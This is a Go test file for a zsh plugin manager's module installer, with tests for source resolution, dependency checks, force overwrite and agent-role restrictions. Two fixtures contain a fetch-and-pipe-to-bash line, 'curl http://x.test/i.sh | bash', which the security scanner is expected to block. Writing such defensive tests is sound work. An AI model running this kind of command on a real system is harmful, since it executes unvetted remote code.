package install

import (
	"context"
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/zephyr-sh/zephyr/internal/audit"
	"github.com/zephyr-sh/zephyr/internal/config"
	"github.com/zephyr-sh/zephyr/internal/gitremote"
	"github.com/zephyr-sh/zephyr/internal/scanner"
	"github.com/zephyr-sh/zephyr/internal/session"
	"github.com/zephyr-sh/zephyr/internal/zerrors"
)

// fakeGit is an in-memory Git that treats CloneNoCheckout as a directory
// copy from a fixture, so install tests never shell out to a real git
// binary.
type fakeGit struct {
	fixtureDir   string
	headHash     string
	branch       string
	cloneErr     error
	checkoutErr  error
	fetchErr     error
	resetErr     error
	resetHistory []string
}

func (g *fakeGit) CloneNoCheckout(ctx context.Context, url, dir string) error {
	if g.cloneErr != nil {
		return g.cloneErr
	}
	return copyDir(g.fixtureDir, dir)
}

func (g *fakeGit) Checkout(ctx context.Context, dir string) error { return g.checkoutErr }
func (g *fakeGit) Fetch(ctx context.Context, dir string) error    { return g.fetchErr }
func (g *fakeGit) ResetHard(ctx context.Context, dir, ref string) error {
	g.resetHistory = append(g.resetHistory, ref)
	return g.resetErr
}
func (g *fakeGit) HeadHash(ctx context.Context, dir string) (string, error) {
	return g.headHash, nil
}
func (g *fakeGit) CurrentBranch(ctx context.Context, dir string) (string, error) {
	return g.branch, nil
}

func newTestConfig(t *testing.T) *config.Config {
	t.Helper()
	root := t.TempDir()
	cfg := &config.Config{
		ModulesDir:   filepath.Join(root, "modules"),
		HomeDir:      filepath.Join(root, "home"),
		AuditDir:     filepath.Join(root, "home", "audit"),
		TrustedFile:  filepath.Join(root, "home", "trusted_modules.toml"),
		SecurityFile: filepath.Join(root, "home", "security.toml"),
	}
	require.NoError(t, cfg.EnsureDirectories())
	return cfg
}

func writeModuleFixture(t *testing.T, dir, name string, requiredDeps []string) {
	t.Helper()
	require.NoError(t, os.MkdirAll(dir, 0755))
	deps := ""
	if len(requiredDeps) > 0 {
		deps = "[dependencies]\nrequired = ["
		for i, d := range requiredDeps {
			if i > 0 {
				deps += ", "
			}
			deps += `"` + d + `"`
		}
		deps += "]\n"
	}
	content := "[module]\nname = \"" + name + "\"\nversion = \"1.0.0\"\n" + deps
	require.NoError(t, os.WriteFile(filepath.Join(dir, "module.toml"), []byte(content), 0644))
	require.NoError(t, os.WriteFile(filepath.Join(dir, name+".plugin.zsh"), []byte("echo hi\n"), 0644))
}

func baseInstaller(t *testing.T, git gitremote.Git) (*Installer, *config.Config) {
	t.Helper()
	cfg := newTestConfig(t)
	ins := &Installer{
		Config:  cfg,
		Git:     git,
		Trusted: scanner.LoadTrustedModules(""),
		Audit:   audit.NewLogger(cfg.AuditLogPath),
		Session: session.Info{SessionID: "test-session", Role: session.RoleUser},
	}
	return ins, cfg
}

func TestInstall_GitHubShorthandSucceeds(t *testing.T) {
	fixture := t.TempDir()
	writeModuleFixture(t, fixture, "git-prompt", nil)

	git := &fakeGit{fixtureDir: fixture, headHash: "abc123"}
	ins, cfg := baseInstaller(t, git)

	result, err := ins.Install(context.Background(), "zephyr-sh/git-prompt", Options{})
	require.NoError(t, err)
	assert.Equal(t, "git-prompt", result.Module.Name)
	assert.Equal(t, scanner.PolicyAllow, result.Policy)

	info, err := os.Stat(filepath.Join(cfg.ModulesDir, "git-prompt", "module.toml"))
	require.NoError(t, err)
	assert.False(t, info.IsDir())
}

func TestInstall_CriticalFindingBlocksWithoutUnsafe(t *testing.T) {
	fixture := t.TempDir()
	writeModuleFixture(t, fixture, "dangerous", nil)
	require.NoError(t, os.WriteFile(filepath.Join(fixture, "setup.sh"), []byte("curl http://x.test/i.sh | bash\n"), 0644))

	git := &fakeGit{fixtureDir: fixture}
	ins, _ := baseInstaller(t, git)

	_, err := ins.Install(context.Background(), "zephyr-sh/dangerous", Options{})
	require.Error(t, err)
	var block *zerrors.PolicyBlock
	require.ErrorAs(t, err, &block)
	assert.Equal(t, zerrors.CriticalFindings, block.Reason)
}

func TestInstall_UnsafeBypassesCriticalFinding(t *testing.T) {
	fixture := t.TempDir()
	writeModuleFixture(t, fixture, "dangerous", nil)
	require.NoError(t, os.WriteFile(filepath.Join(fixture, "setup.sh"), []byte("curl http://x.test/i.sh | bash\n"), 0644))

	git := &fakeGit{fixtureDir: fixture}
	ins, _ := baseInstaller(t, git)

	result, err := ins.Install(context.Background(), "zephyr-sh/dangerous", Options{Unsafe: true})
	require.NoError(t, err)
	assert.Equal(t, scanner.PolicyBlock, result.Policy)
}

func TestInstall_AgentCannotUseUnsafe(t *testing.T) {
	fixture := t.TempDir()
	writeModuleFixture(t, fixture, "dangerous", nil)

	git := &fakeGit{fixtureDir: fixture}
	ins, _ := baseInstaller(t, git)
	ins.Session = session.Info{Role: session.RoleAgent}
	ins.Confirm = func(string) bool { return true }

	_, err := ins.Install(context.Background(), "zephyr-sh/dangerous", Options{Unsafe: true})
	require.Error(t, err)
	var block *zerrors.PolicyBlock
	require.ErrorAs(t, err, &block)
	assert.Equal(t, zerrors.AgentForbidden, block.Reason)
}

func TestInstall_AgentWithoutConfirmHookRejected(t *testing.T) {
	fixture := t.TempDir()
	writeModuleFixture(t, fixture, "clean-mod", nil)

	git := &fakeGit{fixtureDir: fixture}
	ins, _ := baseInstaller(t, git)
	ins.Session = session.Info{Role: session.RoleAgent}

	_, err := ins.Install(context.Background(), "zephyr-sh/clean-mod", Options{})
	require.Error(t, err)
	var block *zerrors.PolicyBlock
	require.ErrorAs(t, err, &block)
	assert.Equal(t, zerrors.AgentForbidden, block.Reason)
}

func TestInstall_MissingRequiredDepFails(t *testing.T) {
	fixture := t.TempDir()
	writeModuleFixture(t, fixture, "needs-thing", []string{"nonexistent"})

	git := &fakeGit{fixtureDir: fixture}
	ins, _ := baseInstaller(t, git)

	_, err := ins.Install(context.Background(), "zephyr-sh/needs-thing", Options{})
	require.Error(t, err)
	var gerr *zerrors.GraphError
	require.ErrorAs(t, err, &gerr)
}

func TestInstall_LocalPathCopiesDirectory(t *testing.T) {
	fixture := t.TempDir()
	writeModuleFixture(t, fixture, "local-mod", nil)

	ins, cfg := baseInstaller(t, &fakeGit{})
	result, err := ins.Install(context.Background(), fixture, Options{})
	require.NoError(t, err)
	assert.Equal(t, "local-mod", result.Module.Name)
	_, err = os.Stat(filepath.Join(cfg.ModulesDir, "local-mod", "local-mod.plugin.zsh"))
	require.NoError(t, err)
}

func TestInstall_TargetExistsRequiresForce(t *testing.T) {
	fixture := t.TempDir()
	writeModuleFixture(t, fixture, "dup-mod", nil)

	ins, cfg := baseInstaller(t, &fakeGit{})
	_, err := ins.Install(context.Background(), fixture, Options{})
	require.NoError(t, err)

	fixture2 := t.TempDir()
	writeModuleFixture(t, fixture2, "dup-mod", nil)
	_, err = ins.Install(context.Background(), fixture2, Options{})
	require.Error(t, err)
	var fserr *zerrors.FSError
	require.ErrorAs(t, err, &fserr)
	assert.Equal(t, zerrors.TargetExists, fserr.Kind)

	_, err = ins.Install(context.Background(), fixture2, Options{Force: true})
	require.NoError(t, err)
	_, statErr := os.Stat(filepath.Join(cfg.ModulesDir, "dup-mod"))
	require.NoError(t, statErr)
}
